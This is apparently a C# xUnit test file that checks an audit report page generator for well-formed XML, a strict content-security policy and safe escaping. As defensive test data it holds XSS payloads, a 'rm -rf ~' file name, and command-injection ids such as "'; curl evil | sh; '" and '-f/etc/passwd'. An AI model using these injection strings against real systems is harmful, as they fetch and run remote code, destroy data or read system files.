using System.Collections.Concurrent;
using System.Globalization;
using System.Text;
using System.Xml;
using System.Xml.Linq;
using BackupCodeBroker.Audit.Report.Page;
using BackupCodeBroker.Audit.Report;
using BackupCodeBroker.Core.Audit;
using BackupCodeBroker.Pages;
using CsCheck;
using Xunit;

namespace BackupCodeBroker.Tests.Audit.Report;

/// <summary>The page is read as XML, which forgives nothing: what is not closed, not escaped or not text shows at once.</summary>
public sealed class AuditPageTests
{
    private static readonly DateTimeOffset Now = new(2026, 11, 23, 8, 0, 0, TimeSpan.Zero);

    public static TheoryData<string> Samples => [.. Reports.Keys];

    private static ConcurrentDictionary<string, string> Pages { get; } = new();

    private static Dictionary<string, Func<AuditReport>> Reports { get; } = new()
    {
        ["week"] = SampleReports.Week,
        ["calm"] = SampleReports.Calm,
        ["empty"] = SampleReports.Empty,
        ["many"] = () => SampleReports.Many(20_000),
        ["kinds"] = SampleReports.OfEachKind,
    };

    [Theory]
    [MemberData(nameof(Samples))]
    public void Is_well_formed_and_bounded(string sample)
    {
        var text = Sample(sample);
        Assert.InRange(text.Length, 1_000, 4_500_000);
        Assert.NotNull(Parse(text).Root);
        // For people to look at, in a folder of their own.
        if (Environment.GetEnvironmentVariable("BCB_TEST_AUDIT_PAGES") is { Length: > 0 } folder)
        {
            File.WriteAllText(Path.Combine(folder, sample + ".html"), text);
        }
    }

    [Theory]
    [MemberData(nameof(Samples))]
    public void Loads_nothing_and_runs_nothing_but_its_own(string sample)
    {
        var page = Parse(Sample(sample));
        var policy = Assert.Single(page.Descendants("meta"), m => (string?)m.Attribute("http-equiv") == "Content-Security-Policy").Attribute("content")!.Value;
        Assert.Matches("^default-src 'none'; style-src 'sha256-[^' ]+'; script-src 'sha256-[^' ]+'; base-uri 'none'; form-action 'none'$", policy);
        Assert.Contains(Hash(Assert.Single(page.Descendants("script")).Value), policy, StringComparison.Ordinal);
        Assert.Contains(Hash(Assert.Single(page.Descendants("style")).Value), policy, StringComparison.Ordinal);
        Assert.All(page.Descendants().Attributes(), a => Assert.True(
            a.Name.LocalName switch
            {
                "href" => a.Value.StartsWith('#'),
                "src" or "srcset" or "action" or "data" or "style" or "ping" => false,
                var name => !name.StartsWith("on", StringComparison.Ordinal),
            },
            a.ToString()));
        // Every link leads to one place of the page.
        var ids = page.Descendants().Attributes("id").Select(a => a.Value).ToList();
        Assert.Equal(ids.Count, ids.Distinct().Count());
        Assert.All(page.Descendants("a").Where(a => a.Attribute("class")?.Value is null or "flag").Attributes("href"), a => Assert.Contains(a.Value[1..], ids));
    }

    [Fact]
    public void Begins_with_the_verdict_and_what_is_not_explained()
    {
        var main = Parse(Text(SampleReports.Week())).Descendants("main").Single().Elements().ToList();
        Assert.Equal(["header", "dl", "figure", "section"], main.Take(4).Select(e => e.Name.LocalName));
        Assert.Contains("8 things are not explained", main[0].Value, StringComparison.Ordinal);
        Assert.Contains("2 unexplained accesses", main[0].Value, StringComparison.Ordinal);
        Assert.Contains("2 lines could not be read", main[0].Value, StringComparison.Ordinal);
        var first = main[3].Elements("details").First();
        Assert.Equal("", first.Attribute("open")?.Value);
        Assert.Contains("Code data touched past the broker", first.Value, StringComparison.Ordinal);
        Assert.Contains("root, a root token, from 10.66.6.6", first.Value, StringComparison.Ordinal);
    }

    [Fact]
    public void Says_that_all_is_explained_only_of_what_could_be_read()
    {
        Assert.Equal("verdict good", Parse(Text(SampleReports.Calm())).Descendants("header").Single().Attribute("class")!.Value);
        var unread = Parse(Text(SampleReports.Week() with { Findings = [] })).Descendants("header").Single();
        Assert.Equal("verdict warn", unread.Attribute("class")!.Value);
        Assert.Contains("2 lines could not be read", unread.Value, StringComparison.Ordinal);
        Assert.Contains("nothing to explain", Text(SampleReports.Empty()), StringComparison.Ordinal);
    }

    [Fact]
    public void Says_where_it_was_cut_and_keeps_what_has_findings()
    {
        var page = Parse(Sample("many"));
        var lives = page.Descendants("section").Single(s => (string?)s.Attribute("id") == "lives");
        var shown = lives.Elements("details").Count();
        Assert.InRange(shown, 300, 1_000);
        Assert.Contains($"{20_000 - shown:N0} identities more", lives.Value, StringComparison.Ordinal);
        Assert.StartsWith("team-96.", lives.Descendants().First(e => (string?)e.Attribute("class") == "name").Value, StringComparison.Ordinal);
        // No group pushes another one off the page.
        Assert.Equal(4, page.Descendants("section").Single(s => (string?)s.Attribute("id") == "findings").Elements("details")
            .Select(d => d.ElementsBeforeSelf("h2").Last().Value).Distinct().Count());
        Assert.Contains("311 findings more", page.Root!.Value, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("</script><script>alert(1)</script>", "</script><script>alert(1)</script>")]
    [InlineData("\" onload=\"alert(1)", "\" onload=\"alert(1)")]
    [InlineData("'><img src=x>&amp;", "'><img src=x>&amp;")]
    [InlineData("admin\u202Enimda", "admin⟨U+202E⟩nimda")]
    [InlineData("a\u0000b\u001b[31mc\u007f\u0085", "a␀b␛[31mc␡⟨U+0085⟩")]
    [InlineData("zero\u200Bwidth\uFEFF", "zero⟨U+200B⟩width⟨U+FEFF⟩")]
    [InlineData("tag \U000E0041", "tag ⟨U+E0041⟩")]
    [InlineData("grün 鍵 🔑", "grün 鍵 🔑")]
    public void Shows_hostile_text_as_text(string text, string shown)
    {
        var page = Parse(Text(With(text)));
        var what = page.Descendants("p").First(p => (string?)p.Attribute("class") == "what");
        Assert.Empty(what.Elements());
        Assert.Equal(shown, what.Value);
    }

    [Fact]
    public void Any_text_is_shown_as_it_is_and_changes_nothing_else()
    {
        var shape = Shape(Parse(Text(With("x"))));
        string[] nasty =
        [
            "</script>", "<!--", "-->", "]]>", "<svg onload=x>", "&#0;", "&lt;", "\"", "'", "`", "javascript:", "\u202E", "\u2066", "\0", "\r\n", "\uFFFE", "\uDC00",
        ];
        var fragment = Gen.OneOf(Gen.Int[0, nasty.Length - 1].Select(i => nasty[i]), Gen.Char.Select(c => c.ToString()), Gen.String[0, 8]);
        fragment.Array[0, 10].Select(parts => string.Concat(parts) + ".").Sample(
            text =>
            {
                var page = Parse(Text(With(text)));
                Assert.Equal(shape, Shape(page));
                Assert.Equal(Visible.Of(text), page.Descendants("p").First(p => (string?)p.Attribute("class") == "what").Value);
                Assert.Contains(page.Descendants("td"), td => td.Value == Visible.Of(text));
            },
            iter: 60);
    }

    [Fact]
    public void Attributes_hold_any_text_too()
    {
        Gen.String[0, 20].Sample(
            text =>
            {
                using var writer = new StringWriter(CultureInfo.InvariantCulture);
                var html = new Markup(writer);
                using (html.Open("p", ("title", text + "\" x='<>&"), ("lang", null)))
                {
                    html.Empty("br", ("id", text));
                }

                var written = Parse(writer.ToString()).Root!;
                Assert.Equal(Visible.Of(text + "\" x='<>&"), Assert.Single(written.Attributes()).Value);
                Assert.Equal(Visible.Of(text), written.Element("br")!.Attribute("id")!.Value);
                Assert.Equal(writer.ToString().Length, html.Length);
            });
    }

    // Not as a row: attributes cannot hold half a pair.
    [Fact]
    public void Halves_of_surrogate_pairs_are_shown_as_such() => Assert.Equal("half ⟨U+D83D⟩ of a pair ⟨U+DC00⟩", Visible.Of("half \uD83D of a pair \uDC00"));

    [Fact]
    public void What_is_too_long_is_cut_and_said_so()
    {
        var shown = Visible.Of(new string('a', 2_500));
        Assert.EndsWith("… (500 characters more)", shown, StringComparison.Ordinal);
        Assert.Equal(2_000, shown.Count(c => c == 'a') - "characters".Count(c => c == 'a'));
    }

    [Theory]
    [InlineData("audit.log", "'audit.log'")]
    [InlineData("it's; rm -rf ~", "'it'\\''s; rm -rf ~'")]
    [InlineData("-rf", "'-rf'")]
    [InlineData("a\nb", null)]
    [InlineData("a\u202Eb", null)]
    [InlineData("", null)]
    public void Names_of_files_stand_in_quotes_or_not_at_all(string name, string? quoted) => Assert.Equal(quoted, LookUp.Quoted(name));

    [Theory]
    [InlineData("5be0f8d1-71ef-4b0e-a6f6-0b27f1a7cc10", true)]
    [InlineData("'; curl evil | sh; '", false)]
    [InlineData("-f/etc/passwd", false)]
    [InlineData("5be0f8d1\n", false)]
    public void Only_plain_ids_come_into_commands(string id, bool plain)
    {
        var finding = SampleReports.Week().Findings[2] with { RequestIds = [id], OperationId = id, TraceId = id };
        Assert.Equal(plain ? 3 : 0, LookUp.For(finding, SampleReports.Week().Sources).Count());
    }

    [Fact]
    public void Every_step_of_the_axis_is_readable()
    {
        var from = new DateTimeOffset(2026, 1, 1, 0, 0, 0, TimeSpan.Zero);
        Gen.Select(Gen.Long[0, TimeSpan.FromDays(20_000).Ticks], Gen.Long[0, TimeSpan.TicksPerDay]).Sample((length, offset) =>
        {
            var axis = new TimeAxis(from.AddTicks(offset), from.AddTicks(offset + length));
            var ticks = axis.Ticks().ToList();
            Assert.InRange(ticks.Count, 0, 10);
            Assert.All(ticks, t => Assert.InRange(axis.Place(t.At), 0, 100));
        });
    }

    // Every text that a report has, with something hostile in its place.
    private static AuditReport With(string text)
    {
        var party = new Party { Name = text, Entity = text, Accessor = text, Policies = [text], Address = text };
        var at = new DateTimeOffset(2026, 11, 16, 1, 0, 0, TimeSpan.Zero);
        return new AuditReport
        {
            Since = at.AddDays(-1),
            Until = at.AddDays(1),
            Sources = [new(text, text, 1, 1, at, at)],
            Totals = new AuditTotals { ByOutcome = new Dictionary<string, long> { [text] = 1 } },
            Findings =
            [
                new Finding
                {
                    Kind = FindingKind.ForeignAccess, At = at, What = text, Identity = text + "!", Who = party, Paths = [text], RequestIds = [text + "/"], OperationId = text + "/",
                    TraceId = text + "/", Place = text,
                },
            ],
            Notices = [new Notice(at, text, text, text)],
            Sets =
            [
                new SetLife(text + "!", 1, [new LifeEvent { At = at, Step = LifeStep.Consumed, By = party, Detail = text, OperationId = text, TraceId = text, RequestId = text }]),
            ],
            Rotations = [new Rotation(text, 1, 1, 1, at, TimeSpan.Zero)],
            Changes = [new ChangeEnding(text, text, at, party, null)],
            Unreadable = [new UnreadableLine(text, 1, 1, text)],
        };
    }

    private static string Shape(XDocument page) => string.Join(' ', page.Descendants().Select(e => e.Name + ":" + string.Join(',', e.Attributes().Select(a => a.Name))));

    private static string Hash(string text) => "sha256-" + Convert.ToBase64String(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(text)));

    private static XDocument Parse(string page)
    {
        using var reader = XmlReader.Create(new StringReader(page), new XmlReaderSettings { DtdProcessing = DtdProcessing.Ignore });
        return XDocument.Load(reader, LoadOptions.PreserveWhitespace);
    }

    // The same page serves several tests: the largest takes a while.
    private static string Sample(string sample) => Pages.GetOrAdd(sample, name => Text(Reports[name]()));

    private static string Text(AuditReport report)
    {
        using var writer = new StringWriter(CultureInfo.InvariantCulture);
        AuditPage.Write(writer, report, Now);
        return writer.ToString();
    }
}
